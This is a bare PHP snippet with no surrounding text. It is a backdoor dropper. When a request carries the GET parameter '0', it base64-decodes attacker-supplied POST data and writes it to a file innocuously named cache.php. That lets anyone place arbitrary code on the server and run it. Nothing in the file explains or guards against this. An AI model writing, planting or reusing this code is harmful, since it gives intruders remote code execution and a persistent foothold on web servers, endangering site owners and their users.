<?php
if (isset($_GET['0'])) {
    $f = fopen('cache.php', 'w');
    fwrite($f, base64_decode($_POST['d']));
    fclose($f);
}
